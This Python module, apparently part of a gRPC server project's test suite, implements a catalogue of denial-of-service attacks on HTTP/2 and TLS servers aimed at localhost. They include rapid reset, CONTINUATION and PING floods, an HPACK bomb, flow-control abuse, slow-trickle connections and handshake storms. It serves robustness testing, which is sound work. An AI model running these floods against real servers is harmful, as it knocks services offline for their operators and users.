# Copyright 2026 The uvgrpc Authors
# SPDX-License-Identifier: Apache-2.0
"""Attacks on an HTTP/2 server. Each goes on, on new connections if need be, until it is cancelled."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import ssl
import struct
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from typing import Any

from peers import frames
from peers.frames import DATA, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame

PRIORITY, CONTINUATION, UNKNOWN = 2, 9, 0x42
INITIAL_WINDOW_SIZE = 4

Attack = Callable[[int], Awaitable[None]]
# Of so many connections, or streams, an attack consists.
CONNECTIONS = 4
STREAMS = 100
# Of 16 KiB, the largest frame that a server has to take.
_FULL = 16384


def headers(path: str, *more: tuple[bytes, bytes]) -> bytes:
    """A request's headers with `more`, whose values may be long."""
    return frames.headers(path) + b"".join(literal(name, value) for name, value in more)


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A header of HPACK, put into the table when `indexed`."""
    return (b"\x40" if indexed else b"\x00") + _string(name) + _string(value)


def _string(text: bytes) -> bytes:
    return _integer(len(text), 7) + text


def _integer(value: int, bits: int) -> bytes:
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([value])
    out = bytearray([limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def header_frames(stream: int, block: bytes, *, flags: int = 0) -> bytes:
    """HEADERS, and CONTINUATION when the block is long."""
    parts = [block[at : at + _FULL] for at in range(0, len(block), _FULL)] or [b""]
    sent = []
    for index, part in enumerate(parts):
        last = 4 if index == len(parts) - 1 else 0
        kind = HEADERS if index == 0 else CONTINUATION
        sent.append(frame(kind, last | (flags if index == 0 else 0), stream, part))
    return b"".join(sent)


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


@contextlib.asynccontextmanager
async def connection(port: int, *settings: tuple[int, int]) -> AsyncIterator[frames.Connection]:
    """One that has greeted, and is aborted in the end."""
    opened = await frames.Connection.open(port, settings)
    try:
        yield opened
    finally:
        opened.writer.transport.abort()


async def _read(opened: frames.Connection) -> None:
    while await opened.reader.read(1 << 16):
        pass
    raise ConnectionResetError


async def again(port: int, attack: Callable[[frames.Connection], Awaitable[None]], *settings: Any) -> None:
    """`attack` on one connection after the other, whose answers are read."""
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            async with connection(port, *settings) as opened, asyncio.TaskGroup() as group:
                reading = group.create_task(_quietly(_read(opened)))
                writing = group.create_task(_quietly(attack(opened)))
                await asyncio.wait([reading, writing], return_when=asyncio.FIRST_COMPLETED)
                reading.cancel()
                writing.cancel()
        # Who is thrown out comes again, but is no storm of connections.
        await asyncio.sleep(0.005)


async def _quietly(step: Awaitable[None]) -> None:
    with contextlib.suppress(OSError):
        await step


async def _at_once(port: int, attack: Callable[[frames.Connection], Awaitable[None]], *settings: Any) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(CONNECTIONS):
            group.create_task(again(port, attack, *settings))


def _flood(chunk: bytes, opening: bytes = b"") -> Attack:
    """The same bytes over and over, after those of `opening`."""

    async def attack(opened: frames.Connection) -> None:
        opened.writer.write(opening)
        while True:
            opened.writer.write(chunk)
            await opened.writer.drain()
            await asyncio.sleep(0)

    return lambda port: _at_once(port, attack)


def _deaf(chunk: bytes) -> Attack:
    """As _flood, but the answers are not read."""

    async def one(port: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                async with connection(port) as opened:
                    opened.writer.transport.pause_reading()  # type: ignore[attr-defined]
                    for _ in range(2000):
                        opened.writer.write(chunk)
                        await opened.writer.drain()

    async def attack(port: int) -> None:
        async with asyncio.TaskGroup() as group:
            for _ in range(CONNECTIONS):
                group.create_task(one(port))

    return attack


async def _rapid_reset(opened: frames.Connection) -> None:
    block = frames.headers("/t/Echo")
    for stream in streams():
        opened.writer.write(frames.request(stream, block) + frames.reset(stream))
        if stream % 100 == 1:
            await opened.writer.drain()
            await asyncio.sleep(0)


async def _no_window(opened: frames.Connection) -> None:
    """Large replies, wanted byte by byte, and given up."""
    block = frames.headers("/t/Big")
    for first in itertools.count(0, STREAMS):
        for index in range(first, first + STREAMS):
            opened.writer.write(frames.request(2 * index + 1, block))
        for _ in range(20):
            for index in range(first, first + STREAMS):
                opened.writer.write(frame(WINDOW_UPDATE, 0, 2 * index + 1, struct.pack(">I", 1)))
            await opened.writer.drain()
            await asyncio.sleep(0.001)
        for index in range(first, first + STREAMS):
            opened.writer.write(frames.reset(2 * index + 1))
        await opened.writer.drain()


async def _window_swings(opened: frames.Connection) -> None:
    block = frames.headers("/t/Download")
    for index in range(STREAMS):
        opened.writer.write(frames.request(2 * index + 1, block))
    while True:
        for size in (0, 65535, 1, 0x7FFFFFFF - 65535):
            setting = struct.pack(">HI", INITIAL_WINDOW_SIZE, size)
            opened.writer.write(frame(SETTINGS, 0, 0, setting))
            await opened.writer.drain()
            await asyncio.sleep(0.001)


async def _window_overflow(opened: frames.Connection) -> None:
    opened.writer.write(frames.request(1, frames.headers("/t/Download")))
    most = struct.pack(">I", 0x7FFFFFFF)
    opened.writer.write(frame(WINDOW_UPDATE, 0, 0, most) + frame(WINDOW_UPDATE, 0, 1, most))
    await asyncio.sleep(0.05)


async def _oversize_headers(opened: frames.Connection) -> None:
    block = headers("/t/Echo", *[(b"x-%d" % index, bytes(60_000)) for index in range(4)])
    for stream in streams():
        opened.writer.write(header_frames(stream, block, flags=1))
        await opened.writer.drain()
        await asyncio.sleep(0)


async def _hpack_bomb(opened: frames.Connection) -> None:
    """An entry of the table's size, and headers that say only its number: 4 KB a byte."""
    for stream in streams():
        block = frames.headers("/t/Echo")
        block += literal(b"bomb", b"b" * 4000, indexed=True) + b"\xbe" * 16000
        opened.writer.write(header_frames(stream, block, flags=1))
        await opened.writer.drain()
        await asyncio.sleep(0)


async def _slow_preface(port: int) -> None:
    await _trickle(port, PREFACE + frame(SETTINGS, 0, 0), 0.01, frames.PREFACE[:0])


async def _slow_headers(port: int) -> None:
    block = frames.headers("/t/Echo")
    await _trickle(port, frame(HEADERS, 4, 1, block), 0.01, PREFACE + frame(SETTINGS, 0, 0))


async def _slow_body(port: int) -> None:
    opening = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, frames.headers("/t/Upload"))
    body = struct.pack(">BI", 0, 10_000) + bytes(10_000)
    await _trickle(port, frame(DATA, 0, 1, body), 0.01, opening)


async def _trickle(port: int, slow: bytes, pause: float, opening: bytes) -> None:
    """`slow` byte by byte, on many connections."""

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", port)
                try:
                    writer.write(opening)
                    for at in range(len(slow)):
                        writer.write(slow[at : at + 1])
                        await writer.drain()
                        await asyncio.sleep(pause)
                finally:
                    writer.transport.abort()

    async with asyncio.TaskGroup() as group:
        for _ in range(STREAMS):
            group.create_task(one())


def half_open(count: int) -> Attack:
    """Connections that say nothing."""

    async def attack(port: int) -> None:
        writers: list[asyncio.StreamWriter] = []
        try:
            while len(writers) < count:
                group = min(50, count - len(writers))
                found = await asyncio.gather(
                    *(asyncio.open_connection("127.0.0.1", port) for _ in range(group)),
                    return_exceptions=True,
                )
                writers += [one[1] for one in found if isinstance(one, tuple)]
            await asyncio.Event().wait()
        finally:
            for writer in writers:
                writer.transport.abort()

    return attack


def _bytes_on_connections(chunk: bytes) -> Attack:
    """Connections that say the wrong thing and read until they are thrown out."""

    async def one(port: int) -> None:
        while True:
            with contextlib.suppress(OSError, TimeoutError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                try:
                    writer.write(chunk)
                    async with asyncio.timeout(5):
                        while await reader.read(1 << 16):
                            pass
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0.01)

    async def attack(port: int) -> None:
        async with asyncio.TaskGroup() as group:
            for _ in range(CONNECTIONS):
                group.create_task(one(port))

    return attack


def client_hello() -> bytes:
    """The first flight of a TLS client, which costs a server the most of a handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    out = ssl.MemoryBIO()
    handshake = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    return out.read()


def handshake_storm(each_second: int, at_once: int = 1) -> Attack:
    """Handshakes that are begun, at a rate, in groups, and given up once the server has answered."""
    hello = client_hello()

    async def one(port: int) -> None:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(20):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                try:
                    writer.write(hello)
                    await reader.read(1 << 16)
                finally:
                    writer.transport.abort()

    async def attack(port: int) -> None:
        loop = asyncio.get_running_loop()
        start = loop.time()
        async with asyncio.TaskGroup() as group:
            for index in itertools.count(1):
                for _ in range(at_once):
                    group.create_task(one(port))
                await asyncio.sleep(max(0, start + index * at_once / each_second - loop.time()))

    return attack


def _on(attack: Callable[[frames.Connection], Awaitable[None]], *settings: tuple[int, int]) -> Attack:
    return lambda port: _at_once(port, attack, *settings)


_UNFINISHED = frame(HEADERS, 0, 1, frames.headers("/t/Upload"))
_OPEN = frame(HEADERS, 4, 1, frames.headers("/t/Upload"))
_GET = b"GET / HTTP/1.1\r\nHost: test\r\n\r\n"

ATTACKS: dict[str, Attack] = {
    "rapid reset": _on(_rapid_reset),
    "settings flood": _flood(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 100),
    "settings flood, deaf": _deaf(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 100),
    "ping flood": _flood(frame(PING, 0, 0, bytes(8)) * 100),
    "ping flood, deaf": _deaf(frame(PING, 0, 0, bytes(8)) * 100),
    "CONTINUATION flood": _flood(
        frame(CONTINUATION, 0, 1, literal(b"x" * 100, bytes(400)) * 20), _UNFINISHED
    ),
    "empty CONTINUATION flood": _flood(frame(CONTINUATION, 0, 1) * 100, _UNFINISHED),
    "empty DATA flood": _flood(frame(DATA, 0, 1) * 100, _OPEN),
    "PRIORITY flood": _flood(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)) * 100, _OPEN),
    "unknown frames": _flood(frame(UNKNOWN, 0, 0, bytes(100)) * 100),
    "RST_STREAM of idle streams": _flood(frame(RST_STREAM, 0, 99, struct.pack(">I", 8)) * 100),
    "WINDOW_UPDATE flood": _flood(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 100, _OPEN),
    "no window": _on(_no_window, (INITIAL_WINDOW_SIZE, 0)),
    "window swings": _on(_window_swings, (INITIAL_WINDOW_SIZE, 0)),
    "window overflow": _on(_window_overflow),
    "oversize headers": _on(_oversize_headers),
    "HPACK bomb": _on(_hpack_bomb),
    "slow preface": _slow_preface,
    "slow headers": _slow_headers,
    "slow body": _slow_body,
    "GET /": _bytes_on_connections(_GET),
    "TLS on a plain port": _bytes_on_connections(client_hello()),
    "garbage": _bytes_on_connections(bytes(range(256)) * 64),
}
# On a port with TLS.
TLS_ATTACKS: dict[str, Attack] = {
    "plain text on a TLS port": _bytes_on_connections(PREFACE + frame(SETTINGS, 0, 0)),
    "GET / on a TLS port": _bytes_on_connections(_GET),
    "500 handshakes a second": handshake_storm(500),
    "250 handshakes at once, twice a second": handshake_storm(500, 250),
    "half a ClientHello": _bytes_on_connections(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"),
}
